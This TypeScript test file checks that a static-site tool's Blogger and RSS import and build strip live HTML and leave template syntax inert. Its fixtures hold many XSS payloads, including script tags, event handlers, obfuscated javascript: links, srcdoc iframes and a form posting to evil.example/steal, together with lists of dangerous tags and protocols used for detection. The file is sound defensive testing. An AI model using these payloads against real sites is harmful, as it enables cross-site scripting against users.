/**
 * Issue 8, script and template syntax: a Blogger backup and an RSS feed full of live HTML
 * (scripts, handlers, javascript: and data: links, iframes, SVG, meta refresh, style, plugins,
 * forms) and template syntax (Liquid, Nunjucks, ERB, shell) go through a real import and a
 * real `almanac build`. The built pages carry none of it live and keep the text around it;
 * Chromium opens them and sees no dialog, no request off 127.0.0.1 and no navigation away.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Element, Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import type { Browser, Page } from 'playwright-core';
import { chromiumMissing, launchChromium, serveStatic, type StaticServer } from './helpers/browser.ts';
import { temporaryDirectory } from './helpers/cli.ts';
import { boundedAlmanac } from './hostile/bounded.ts';

const KIND = 'http://schemas.google.com/blogger/2008/kind#';
const escapeXml = (text: string) =>
  text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;');

/** The old sites of the hostile posts: a relative `<img src>` becomes their picture, as on the old page (RFC 3986 against the post's address). */
const OLD_HOSTS = new Set(['hostile.blogspot.com', 'feed.example.net']);

/** An old post's picture loads from its own old host by design (until its pictures are saved beside it); nothing else may load. */
function isOldPicture(tag: string, attribute: string, url: URL): boolean {
  return tag === 'img' && attribute === 'src' && /^https?:$/.test(url.protocol) && OLD_HOSTS.has(url.host);
}

/** Every way an old post could carry something live, each between two sentences that must survive. */
const HOSTILE_BODY = [
  '<p>Before the script.</p><script>alert("body-script")</script><p>After the script.</p>',
  `<p>Handler <img src="x" onerror="alert('img-onerror')"> image and <b onmouseover="alert('b-mouseover')">bold words</b> survive.</p>`,
  `<p><a href="javascript:alert('js-link')">plain js link</a>, <a href="jav&#x09;ascript:alert('tab-link')">tabbed js link</a>, ` +
    `<a href="&#106;&#97;vascript:alert('entity-link')">entity js link</a>, <a href=" JaVaScRiPt:alert('case-link')">mixed case link</a>, ` +
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a> and <a href="vbscript:msgbox(1)">vb link</a> keep their words.</p>`,
  '<iframe src="https://evil.example/frame" srcdoc="<script>alert(1)</script>">iframe fallback</iframe><p>After the iframe.</p>',
  `<svg onload="alert('svg-onload')"><script>alert('svg-script')</script><a xlink:href="javascript:alert('svg-link')"><text>svg words</text></a></svg><p>After the svg.</p>`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><p>After the meta.</p>',
  '<style>body{background:url(https://evil.example/bg.png)} .x{color:red}</style><p>After the style.</p>',
  '<object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/y.swf"><p>After the plugins.</p>',
  '<form action="https://evil.example/steal"><input name="q" autofocus onfocus="alert(\'autofocus\')"><button formaction="javascript:alert(1)">Send form</button></form><p>After the form.</p>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>After the base.</p>',
  // (An http(s) image is an old post's picture and loads from its host by design; only other schemes are hostile.)
  '<p style="background:url(https://evil.example/inline.png)">Styled words</p><video poster="data:image/png;base64,iVBORw0KGgo=" src="javascript:alert(1)"></video><p>After the video.</p>',
  '<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="data image"> and <img src="jav&#x0A;ascript:alert(1)" alt="script image"> end.</p>',
].join('\n');

const TEMPLATE_BODY = [
  '<p>Math {{ 7*7 }} stays.</p>',
  '<p>{% include "x" %} include stays.</p>',
  '<p>{% raw %} raw stays {% endraw %}</p>',
  '<p>${HOME} stays.</p>',
  '<p>&lt;%= x %&gt; stays.</p>',
  '<p>{{ site }} and {{ site.title }} and {{ page.url }} stay.</p>',
  '<pre>{{ 6*7 }} in code</pre>',
].join('\n');

/** Old in-page anchors: a heading id, an id that is not the heading's slug, and an `<a name>`. */
const ANCHOR_BODY = [
  `<p><a href="#install">jump to install</a> · <a href="#sec-2">jump to configure</a> · <a href="#old-anchor">jump to old anchor</a></p>`,
  `${'<p>Filler paragraph to push the headings below the fold. '.repeat(3)}</p>`.repeat(40),
  '<h2 id="install">Install</h2><p>Install words.</p>',
  `${'<p>More filler between the sections. </p>'.repeat(40)}`,
  '<h2 id="sec-2">Configure it</h2><p>Configure words.</p>',
  `${'<p>Yet more filler. </p>'.repeat(40)}`,
  '<p><a name="old-anchor"></a>Old anchor words.</p>',
  `${'<p>Tail filler. </p>'.repeat(40)}`,
].join('\n');

function bloggerBackup(): string {
  const post = (id: string, title: string, html: string, slug: string, extra = '') =>
    `<entry><id>tag:blogger.com,1999:blog-8.post-${id}</id><published>2021-03-0${id.length}T10:00:00.000Z</published><updated>2021-03-01T10:00:00.000Z</updated>` +
    `<category scheme="http://schemas.google.com/g/2005#kind" term="${KIND}post"/>${extra}` +
    `<title type="text">${escapeXml(title)}</title><content type="html">${escapeXml(html)}</content>` +
    `<link rel="alternate" type="text/html" href="https://hostile.blogspot.com/2021/03/${slug}.html"/>` +
    `<author><name>${escapeXml(`<script>alert('author')</script>Mallory "><img src=x onerror=alert('author-img')>`)}</name><uri>javascript:alert('author-uri')</uri></author></entry>`;
  const tag = (term: string) => `<category scheme="http://www.blogger.com/atom/ns#" term="${escapeXml(term)}"/>`;
  const comment =
    `<entry><id>tag:blogger.com,1999:blog-8.post-9001</id><published>2021-03-05T10:00:00.000Z</published>` +
    `<category scheme="http://schemas.google.com/g/2005#kind" term="${KIND}comment"/><title type="text">x</title>` +
    `<content type="html">${escapeXml(`<p>Comment words before.</p><script>alert('comment-script')</script><a href="javascript:alert('comment-link')">comment link</a> <img src=x onerror="alert('comment-img')"><p>Comment words after.</p>`)}</content>` +
    `<author><name>${escapeXml(`<svg onload=alert('commenter')>Eve`)}</name><uri>javascript:alert('commenter-uri')</uri></author>` +
    `<thr:in-reply-to href="https://hostile.blogspot.com/2021/03/scripts.html" ref="tag:blogger.com,1999:blog-8.post-1" type="text/html"/></entry>`;
  return (
    `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:thr="http://purl.org/syndication/thread/1.0">` +
    `<id>tag:blogger.com,1999:blog-8.archive</id><title type="text">Hostile</title><link rel="alternate" type="text/html" href="https://hostile.blogspot.com/"/>` +
    post(
      '1',
      `<script>alert("title")</script>Scripts in the title <img src=x onerror=alert('title-img')>`,
      HOSTILE_BODY,
      'scripts',
      tag(`<script>alert('tag')</script>`) + tag(`"><img src=x onerror=alert('tag-img')>`),
    ) +
    post(
      '12',
      `{{ 7*7 }} and {% raw %}raw{% endraw %} \${HOME} <%= x %> {{ site }}`,
      TEMPLATE_BODY,
      'templates',
      tag('{{ 7*7 }}'),
    ) +
    post('123', 'Old anchors', ANCHOR_BODY, 'anchors') +
    comment +
    '</feed>'
  );
}

function rssFeed(): string {
  const item = (title: string, link: string, html: string) =>
    `<item><title>${escapeXml(title)}</title><link>${escapeXml(link)}</link><guid isPermaLink="false">${escapeXml(title)}</guid>` +
    `<pubDate>Mon, 01 Mar 2021 10:00:00 GMT</pubDate><dc:creator>${escapeXml(`<img src=x onerror=alert('creator')>Trudy`)}</dc:creator>` +
    `<category>${escapeXml(`<svg onload=alert('rss-category')>`)}</category><description>${escapeXml(html)}</description></item>`;
  return (
    `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Hostile feed</title>` +
    `<link>https://feed.example.net/</link><description>x</description>` +
    item(
      `<script>alert('rss-title')</script>RSS scripts`,
      'https://feed.example.net/2021/03/rss-scripts/',
      HOSTILE_BODY,
    ) +
    item('RSS javascript link', 'javascript:alert(document.domain)', '<p>An item whose link is a script.</p>') +
    item('{{ 7*7 }} RSS template {% include "x" %}', 'https://feed.example.net/2021/03/rss-templates/', TEMPLATE_BODY) +
    '</channel></rss>'
  );
}

/** Absolute links must be web or mail links; anything else (javascript:, data:, vbscript:) is live. */
const SAFE_PROTOCOL = /^(https?|mailto):$/i;
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formAction',
  'xLinkHref',
  'poster',
  'data',
  'srcSet',
  'background',
  'cite',
]);
const SITE_SCRIPTS = new Set(['/pagefind/pagefind-ui.js', '/assets/search.js', '/assets/anchors.js']);

/** What in one built page could run or load something: every problem, as a line. */
function liveThings(html: string, file: string): string[] {
  const tree = unified().use(rehypeParse).parse(html) as Root;
  const problems: string[] = [];
  visit(tree, 'element', (node: Element) => {
    const where = `${file}: <${node.tagName}>`;
    if (node.tagName === 'script' && !SITE_SCRIPTS.has(String(node.properties.src)))
      problems.push(`${where} script ${JSON.stringify(node.properties.src ?? '')}`);
    if (
      [
        'iframe',
        'object',
        'embed',
        'frame',
        'frameset',
        'form',
        'base',
        'applet',
        'style',
        'svg',
        'video',
        'audio',
        'input',
        'button',
      ].includes(node.tagName)
    )
      problems.push(`${where} element`);
    if (node.tagName === 'meta' && node.properties.httpEquiv) problems.push(`${where} http-equiv`);
    if (
      node.tagName === 'link' &&
      /stylesheet|import|preload|prefetch/.test(String(node.properties.rel)) &&
      !/^\/(assets|pagefind)\//.test(String(node.properties.href))
    )
      problems.push(`${where} ${node.properties.href}`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name)) problems.push(`${where} handler ${name}`);
      if (name === 'style') problems.push(`${where} style attribute`);
      if (name === 'srcDoc') problems.push(`${where} srcdoc`);
      if (!URL_ATTRIBUTES.has(name) || value === undefined || value === null) continue;
      // What a browser does with the attribute: tabs and newlines inside a URL are dropped, spaces trimmed.
      const url = String(Array.isArray(value) ? value.join(' ') : value)
        .replace(/[\t\n\r]/g, '')
        .trim();
      const isIcon = node.tagName === 'link' && url === 'data:,';
      let absolute: URL | undefined;
      try {
        absolute = new URL(url);
      } catch {
        continue; // relative: a path on this site
      }
      if (!isIcon && !SAFE_PROTOCOL.test(absolute.protocol)) problems.push(`${where} ${name}=${JSON.stringify(url)}`);
      if (name !== 'href' && name !== 'cite' && !isIcon && !isOldPicture(node.tagName, name, absolute))
        problems.push(`${where} loads ${JSON.stringify(url)}`);
    }
  });
  return problems;
}

/** The visible words of a page's main content, for "the text around it survives". */
function textOf(html: string): string {
  const tree = unified().use(rehypeParse).parse(html) as Root;
  const parts: string[] = [];
  visit(tree, (node) => {
    if (node.type === 'element' && ['script', 'style', 'head'].includes((node as Element).tagName)) return 'skip';
    if (node.type === 'text') parts.push((node as { value: string }).value);
    return undefined;
  });
  return parts.join('').replace(/\s+/g, ' ');
}

async function htmlFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile() && entry.name.endsWith('.html'))
    .map((entry) => path.join(entry.parentPath, entry.name));
}

describe('script and template syntax through a real import and build', () => {
  let dir: string;
  let site: string;
  const timings: Record<string, number> = {};
  const peaks: Record<string, number> = {};
  const pageOf = (permalink: string) => readFile(path.join(site, permalink, 'index.html'), 'utf8');
  const permalinks = new Map<string, string>();

  before(async () => {
    dir = await temporaryDirectory('almanac-hostile-xss-');
    site = path.join(dir, '_site');
    await writeFile(path.join(dir, 'hostile.xml'), bloggerBackup());
    await writeFile(path.join(dir, 'hostile.rss'), rssFeed());
    for (const [input, source] of [
      ['hostile.xml', 'hostileblog'],
      ['hostile.rss', 'hostilefeed'],
    ]) {
      const result = await boundedAlmanac(
        ['import', input, '--source', source, '--out', 'content', '--report', `${source}.json`],
        { cwd: dir },
      );
      timings[`import ${source}`] = result.cpuMs;
      peaks[`import ${source}`] = result.peakMb;
      assert.equal(result.code, 0, result.stderr);
      const report = JSON.parse(await readFile(path.join(dir, `${source}.json`), 'utf8'));
      // Comments are entries of the input too, written inside their post.
      assert.equal(
        report.written + (report.comments ?? 0) + report.skipped.length,
        report.entries,
        JSON.stringify(report),
      );
      const state = JSON.parse(await readFile(path.join(dir, 'content', source, '.almanac-import.json'), 'utf8'));
      for (const [id, record] of Object.entries(state.documents) as [string, { permalink: string }][])
        permalinks.set(id, record.permalink);
    }
    // A hand-written document whose permalink and body hold template syntax.
    await mkdir(path.join(dir, 'content', 'notes'), { recursive: true });
    await writeFile(
      path.join(dir, 'content', 'notes', 'template.md'),
      `---\ntitle: "{{ 7*7 }} by hand"\npermalink: "/notes/{{ 7*7 }}/"\nsource: notes\nkind: page\n---\nHand {{ 7*7 }} and {% raw %}x{% endraw %}.\n`,
    );
    // Hand-written too: raw HTML in Markdown and script addresses in the fields the layouts link.
    await writeFile(
      path.join(dir, 'content', 'notes', 'links.md'),
      `---\ntitle: Hand links\npermalink: /notes/links/\nsource: notes\nkind: post\noriginal_url: "javascript:alert('original')"\n` +
        `comments:\n  - id: c1\n    author: Linker\n    author_url: " javascript:alert('author_url')"\n    body: "[x](javascript:alert('md'))"\n---\n` +
        `Raw words <script>alert('raw')</script><img src=x onerror=alert('raw-img')> stay. [md link](javascript:alert('md-link')) and <a href="javascript:alert(1)">raw link</a>.\n`,
    );
    const built = await boundedAlmanac(['build', '--content', 'content', '--out', '_site'], {
      cwd: dir,
      env: { ALMANAC_CACHE_DIR: path.join(dir, '.cache') },
    });
    timings.build = built.cpuMs;
    peaks.build = built.peakMb;
    assert.equal(built.code, 0, built.stderr);
  });

  const post = (id: string) => {
    const permalink = [...permalinks].find(([key]) => key.endsWith(`.post-${id}`))?.[1];
    assert.ok(permalink, `no permalink for post-${id}: ${[...permalinks.keys()].join(', ')}`);
    return permalink;
  };
  const feedItem = (guid: string) => {
    const permalink = permalinks.get(guid);
    assert.ok(permalink, `no permalink for ${guid}: ${[...permalinks.keys()].join(', ')}`);
    return permalink;
  };

  test('import and build each finish within 10 s of CPU and 500 MB', () => {
    process.stderr.write(`hostile-xss CPU ms: ${JSON.stringify(timings)}, peak MB: ${JSON.stringify(peaks)}\n`);
    for (const [step, ms] of Object.entries(timings)) assert.ok(ms < 10_000, `${step} took ${ms} ms of CPU`);
    for (const [step, mb] of Object.entries(peaks)) assert.ok(mb < 500, `${step} peaked at ${mb} MB`);
  });

  test('no built page carries anything live: scripts, handlers, script links, frames, plugins, forms, refresh, style', async () => {
    const problems: string[] = [];
    for (const file of await htmlFiles(site))
      problems.push(...liveThings(await readFile(file, 'utf8'), path.relative(site, file)));
    assert.deepEqual(problems, []);
  });

  test('the text around each removed thing survives, in the post, the feed item and the comment', async () => {
    for (const permalink of [post('1'), feedItem("<script>alert('rss-title')</script>RSS scripts")]) {
      const text = textOf(await pageOf(permalink));
      for (const words of [
        'Before the script.',
        'After the script.',
        'bold words survive.',
        'plain js link',
        'tabbed js link',
        'entity js link',
        'mixed case link',
        'data link',
        'vb link keep their words.',
        'After the iframe.',
        'After the svg.',
        'After the meta.',
        'After the style.',
        'After the plugins.',
        'After the form.',
        'After the base.',
        'Styled words',
        'After the video.',
        'end.',
      ]) {
        assert.ok(text.includes(words), `${permalink}: "${words}" is missing from:\n${text}`);
      }
      assert.doesNotMatch(
        text,
        /body-script|svg-script|comment-script|img-onerror/,
        `${permalink}: script source shown as text`,
      );
    }
    const text = textOf(await pageOf(post('1')));
    assert.ok(
      text.includes('Comment words before.') && text.includes('Comment words after.') && text.includes('comment link'),
      text,
    );
  });

  test('titles, tags and author names with markup are shown as text, never parsed', async () => {
    const html = await pageOf(post('1'));
    const text = textOf(html);
    assert.ok(
      text.includes(`<script>alert("title")</script>Scripts in the title <img src=x onerror=alert('title-img')>`),
      text,
    );
    assert.ok(
      text.includes(`<script>alert('tag')</script>`) && text.includes(`"><img src=x onerror=alert('tag-img')>`),
      text,
    );
    assert.ok(text.includes(`Mallory "><img src=x onerror=alert('author-img')>`), text);
    assert.ok(text.includes(`<svg onload=alert('commenter')>Eve`), text);
    const feedText = textOf(await pageOf(feedItem("<script>alert('rss-title')</script>RSS scripts")));
    assert.ok(feedText.includes(`<img src=x onerror=alert('creator')>Trudy`), feedText);
  });

  test('template syntax is text: content, titles, tags and a hand-written permalink', async () => {
    for (const permalink of [post('12'), feedItem(`{{ 7*7 }} RSS template {% include "x" %}`)]) {
      const text = textOf(await pageOf(permalink));
      for (const words of [
        'Math {{ 7*7 }} stays.',
        '{% include "x" %} include stays.',
        '{% raw %} raw stays {% endraw %}',
        '${HOME} stays.',
        '<%= x %> stays.',
        '{{ site }} and {{ site.title }} and {{ page.url }} stay.',
        '{{ 6*7 }} in code',
      ]) {
        assert.ok(text.includes(words), `${permalink}: "${words}" is missing from:\n${text}`);
      }
      assert.doesNotMatch(text, /\b49\b|\b42\b/);
      assert.ok(
        !text.includes(process.env.HOME ?? '/root') || !(process.env.HOME ?? '').length,
        'the HOME variable was expanded',
      );
    }
    const title = textOf(await pageOf(post('12')));
    assert.ok(title.includes(`{{ 7*7 }} and {% raw %}raw{% endraw %} \${HOME} <%= x %> {{ site }}`), title);
    assert.ok(
      existsSync(path.join(site, 'notes', '{{ 7*7 }}', 'index.html')),
      'the hand-written permalink was rendered as a template',
    );
    assert.ok(!existsSync(path.join(site, 'notes', '49')));
    const hand = textOf(await readFile(path.join(site, 'notes', '{{ 7*7 }}', 'index.html'), 'utf8'));
    assert.ok(hand.includes('{{ 7*7 }} by hand') && hand.includes('Hand {{ 7*7 }} and {% raw %}x{% endraw %}.'), hand);
  });

  test('an item whose link is javascript: links nowhere live', async () => {
    const html = await pageOf(feedItem('RSS javascript link'));
    assert.deepEqual(liveThings(html, 'javascript-link item'), []);
    assert.ok(textOf(html).includes('An item whose link is a script.'));
  });

  describe('in Chromium', { skip: chromiumMissing() }, () => {
    let server: StaticServer;
    let browser: Browser;

    before(async () => {
      server = await serveStatic(site);
      browser = await launchChromium();
    });

    after(async () => {
      await browser?.close();
      await server?.stop();
    });

    /** Opens a page, pokes every element with the events inline handlers listen for, and returns what escaped. */
    async function visitPage(url: string): Promise<{ page: Page; escaped: string[] }> {
      const page = await browser.newPage();
      const escaped: string[] = [];
      page.on('dialog', (dialog) => {
        escaped.push(`dialog ${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('request', (request) => {
        const picture = request.resourceType() === 'image' && isOldPicture('img', 'src', new URL(request.url()));
        if (!request.url().startsWith(`${server.base}/`) && request.url() !== 'data:,' && !picture)
          escaped.push(`request ${request.url()}`);
      });
      page.on('framenavigated', (frame) => {
        if (!frame.url().startsWith(`${server.base}/`) && frame.url() !== 'about:blank')
          escaped.push(`navigation ${frame.url()}`);
      });
      await page.goto(server.base + url, { waitUntil: 'networkidle' });
      // (Browser-side code as strings: the project's type check has no DOM library.)
      await page.evaluate(`for (const element of document.querySelectorAll('body *'))
        for (const type of ['mouseover', 'mouseenter', 'focus', 'load', 'error', 'animationstart']) element.dispatchEvent(new Event(type));`);
      // Any link that is not a web link would run something when clicked: click it and see.
      const strangeLinks = `[...document.querySelectorAll('a[href]')].filter((link) => !/^(https?|mailto):$/.test(link.protocol))`;
      const strange = Number(await page.evaluate(`${strangeLinks}.length`));
      for (let index = 0; index < strange; index++) await page.evaluate(`${strangeLinks}[${index}].click()`);
      assert.equal(strange, 0, `${url}: ${strange} links that are not web links`);
      // A refresh of 0 s, or a late script, would show within this time.
      await page.waitForTimeout(300);
      return { page, escaped };
    }

    test('hostile posts, feed items, tag pages and lists: no dialog, no request off 127.0.0.1, no navigation away', async () => {
      const pages = [
        '/notes/links/',
        post('1'),
        post('12'),
        feedItem("<script>alert('rss-title')</script>RSS scripts"),
        feedItem('RSS javascript link'),
        '/',
        '/hostileblog/',
        '/hostilefeed/',
        '/tags/',
      ];
      const tagPages = (await htmlFiles(path.join(site, 'tags'))).map(
        (file) => `/${path.relative(site, path.dirname(file))}/`,
      );
      const escapedAll: string[] = [];
      for (const url of [...pages, ...tagPages.slice(0, 6)]) {
        const { page, escaped } = await visitPage(url);
        escapedAll.push(...escaped.map((line) => `${url}: ${line}`));
        await page.close();
      }
      assert.deepEqual(escapedAll, []);
    });

    /** Where `#anchor` takes the reader on the anchors post: by a click on its in-page link, or by opening post#anchor from elsewhere. */
    async function landing(anchor: string, how: 'click' | 'open'): Promise<string> {
      const page = await browser.newPage();
      if (how === 'click') {
        await page.goto(server.base + post('123'), { waitUntil: 'networkidle' });
        const text = { install: 'jump to install', 'sec-2': 'jump to configure', 'old-anchor': 'jump to old anchor' }[
          anchor
        ]!;
        await page.getByText(text, { exact: true }).click({ timeout: 5_000 });
      } else {
        await page.goto(`${server.base}${post('123')}#${anchor}`, { waitUntil: 'networkidle' });
      }
      await page.waitForTimeout(100);
      const target = String(
        await page.evaluate(
          `document.querySelector(':target')?.closest('h2, p')?.textContent ?? '(nothing: no element is the :target)'`,
        ),
      );
      await page.close();
      return target;
    }

    test("old #anchor links keep working despite the sanitizer's user-content- prefix: in-page links and links from elsewhere", async () => {
      assert.equal(await landing('install', 'click'), 'Install');
      assert.equal(await landing('install', 'open'), 'Install');
    });

    test("old #anchor links keep working: ids that are not the heading's slug, and <a name> anchors", async () => {
      const reached: Record<string, string> = {};
      for (const [anchor, words] of [
        ['sec-2', 'Configure it'],
        ['old-anchor', 'Old anchor words.'],
      ]) {
        for (const how of ['click', 'open'] as const)
          reached[`${how} #${anchor}`] =
            (await landing(anchor, how)) === words ? 'ok' : `did not reach ${JSON.stringify(words)}`;
      }
      assert.deepEqual(
        reached,
        { 'click #sec-2': 'ok', 'open #sec-2': 'ok', 'click #old-anchor': 'ok', 'open #old-anchor': 'ok' },
        'old ids survive as <a id> anchors in the Markdown, which the site keeps and assets/anchors.js follows past the user-content- prefix',
      );
    });
  });
});
